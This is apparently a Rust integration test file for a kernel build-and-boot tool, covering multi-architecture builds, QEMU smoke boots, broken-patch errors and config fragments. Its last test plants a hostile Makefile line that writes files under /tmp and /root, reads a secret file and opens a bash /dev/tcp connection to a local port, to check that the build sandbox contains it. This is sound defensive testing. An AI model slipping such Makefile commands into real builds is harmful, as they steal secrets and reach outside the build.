//! Real kernel builds of the reference tree with the real cross compilers, and a QEMU
//! boot of each image to its console. Slow on a cold cache (a few minutes per
//! architecture); the build directories and artifacts then live in the cache.

mod common;

use xtask::{apply, arch, build, input, qemu, reftree, series, tree};

fn reference() -> tree::TreeHandle {
    tree::resolve(None, None).expect("the reference tree")
}

#[test]
fn reference_kernels_build_boot_and_rebuild_as_a_no_op() {
    let t = reference();
    let commit = reftree::provision(None).unwrap().commit;
    let opts = build::BuildOptions::default();
    for a in arch::parse_list("all").unwrap() {
        let first = build::build(&t, &commit, &a, &opts, "baseline")
            .and_then(build::BuildOutcome::artifacts)
            .unwrap_or_else(|e| panic!("{e:#}"));
        let m = &first.meta;
        assert_eq!(
            (m.arch.as_str(), m.commit.as_str(), m.tree.as_str()),
            (a.name.as_str(), commit.as_str(), "reference v7.2")
        );
        assert!(m.compiler.contains("gcc"), "{}", m.compiler);
        assert_eq!(m.fragments, vec!["common.config".to_string(), a.fragment.clone()]);
        let config = std::fs::read(first.dir.join("config")).unwrap();
        assert_eq!(
            m.config_hash,
            git2::Oid::hash_object(git2::ObjectType::Blob, &config).unwrap().to_string()
        );
        for f in ["System.map", "build.log", "meta.json"] {
            assert!(first.dir.join(f).is_file(), "{} lacks {f}", a.name);
        }
        assert!(std::fs::metadata(&first.image).unwrap().len() > 500_000, "{} image too small", a.name);

        // The same request again is answered from the store, without make.
        let again = build::build(&t, &commit, &a, &opts, "baseline").unwrap().artifacts().unwrap();
        assert!(again.reused, "{} rebuilt", a.name);
        assert_eq!(again.meta, first.meta);

        let log = tempfile::tempdir().unwrap();
        let banner =
            qemu::smoke(&a, &first.image, &log.path().join("serial.log")).unwrap_or_else(|e| panic!("{e:#}"));
        assert!(banner.contains("Linux version 7.2.13"), "{}: {banner}", a.name);
    }
}

#[test]
fn a_broken_patch_gives_the_compilers_error() {
    let t = reference();
    let s = input::read_series(&common::data("kernel/broken-build.mbox"), series::Choice::default()).unwrap();
    let applied = apply::apply_to_repo(&t.repo_path, &s, None).unwrap().applied().unwrap();
    let x86 = &arch::parse_list("x86_64").unwrap()[0];
    let f = match build::build(&t, &applied.tip, x86, &build::BuildOptions::default(), "patched").unwrap() {
        build::BuildOutcome::Failed(f) => f,
        build::BuildOutcome::Built(a) => panic!("a broken patch built: {}", a.image.display()),
    };
    assert_eq!(
        (f.arch.as_str(), f.step.as_str(), f.commit.as_str()),
        ("x86_64", "make", applied.tip.as_str())
    );
    assert!(
        f.errors.iter().any(|e| e.contains("mm/mprotect.c")
            && e.contains("error:")
            && e.contains("mprotect_batch_size")),
        "{:#?}",
        f.errors
    );
    let shown = f.to_string();
    assert!(shown.starts_with(&format!("x86_64 build of {} failed at make", &applied.tip[..12])), "{shown}");
    assert!(f.log.is_file(), "the failed build keeps its log: {}", f.log.display());
}

#[test]
fn a_fragment_option_that_does_not_survive_is_named() {
    let t = reference();
    let commit = reftree::provision(None).unwrap().commit;
    let dir = tempfile::tempdir().unwrap();
    let frag = dir.path().join("extra.config");
    // NUMA needs options tinyconfig's x86_64 does not have; a made-up symbol never exists.
    std::fs::write(&frag, "CONFIG_MMEVAL_NO_SUCH_OPTION=y\nCONFIG_SMP=y\n").unwrap();
    let opts = build::BuildOptions { extra_fragments: vec![frag], ..Default::default() };
    let x86 = &arch::parse_list("x86_64").unwrap()[0];
    let f = match build::build(&t, &commit, x86, &opts, "baseline").unwrap() {
        build::BuildOutcome::Failed(f) => f,
        build::BuildOutcome::Built(a) => panic!("built with a lost option: {}", a.image.display()),
    };
    assert!(f.step.starts_with("configuration"), "{}", f.step);
    assert_eq!(f.errors, vec!["CONFIG_MMEVAL_NO_SUCH_OPTION: asked y, got n".to_string()]);
    // Its own build directory: the shared x86_64 one is untouched.
    assert_ne!(build::build_dir(&t, x86, &opts), build::build_dir(&t, x86, &build::BuildOptions::default()));
}

/// A commit of the reference tree whose top Makefile does what a hostile series would:
/// write outside the build, read a secret, call home; then stops the build.
fn hostile_commit(t: &tree::TreeHandle, port: u16, secret_path: &str) -> String {
    let repo = git2::Repository::open(&t.repo_path).unwrap();
    let base =
        repo.find_commit(git2::Oid::from_str(&reftree::provision(None).unwrap().commit).unwrap()).unwrap();
    let tree = base.tree().unwrap();
    let makefile = repo.find_blob(tree.get_path(std::path::Path::new("Makefile")).unwrap().id()).unwrap();
    let evil = format!(
        "MMEVAL_EVIL := $(shell touch /tmp/mmeval-evil-tmp $$HOME/mmeval-evil-home /root/mmeval-evil-root 2>&1; \
         cat {secret_path} 2>&1; bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' 2>&1; echo done)\n\
         $(warning sandbox probe: $(MMEVAL_EVIL))\n$(error the hostile patch stops the build here)\n"
    );
    let text = [evil.as_bytes(), makefile.content()].concat();
    let blob = repo.blob(&text).unwrap();
    let mut b = git2::build::TreeUpdateBuilder::new();
    b.upsert("Makefile", blob, git2::FileMode::Blob);
    let new_tree = repo.find_tree(b.create_updated(&repo, &tree).unwrap()).unwrap();
    let sig = git2::Signature::new("Evil", "evil@example.org", &git2::Time::new(1_800_000_000, 0)).unwrap();
    repo.commit(None, &sig, &sig, "evil: probe the build sandbox\n", &new_tree, &[&base]).unwrap().to_string()
}

#[test]
fn a_series_cannot_reach_outside_its_build_sandbox() {
    let t = reference();
    let x86 = &arch::parse_list("x86_64").unwrap()[0];
    let secret = format!("planted-secret-{}", std::process::id());
    let secret_path = "/root/mmeval-planted-secret";
    std::fs::write(secret_path, &secret).unwrap();
    let markers = ["/tmp/mmeval-evil-tmp", "/root/mmeval-evil-home", "/root/mmeval-evil-root"];
    for m in markers {
        let _ = std::fs::remove_file(m);
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let commit = hostile_commit(&t, listener.local_addr().unwrap().port(), secret_path);
    let outcome = build::build(&t, &commit, x86, &build::BuildOptions::default(), "hostile").unwrap();
    let f = match outcome {
        build::BuildOutcome::Failed(f) => f,
        build::BuildOutcome::Built(a) => panic!("the hostile commit built: {}", a.image.display()),
    };
    assert!(f.sandboxed);
    let log = std::fs::read_to_string(&f.log).unwrap();
    // The Makefile's code did run (its warning is in the log) ...
    assert!(
        log.contains("sandbox probe:") && log.contains("the hostile patch stops the build here"),
        "{log}"
    );
    // ... and reached nothing outside.
    for m in markers {
        assert!(!std::path::Path::new(m).exists(), "{m} was written from the sandbox");
    }
    assert!(!log.contains(&secret), "the planted secret reached the log");
    assert!(!format!("{f}").contains(&secret));
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the build connected to 127.0.0.1"
    );
    std::fs::remove_file(secret_path).unwrap();
}
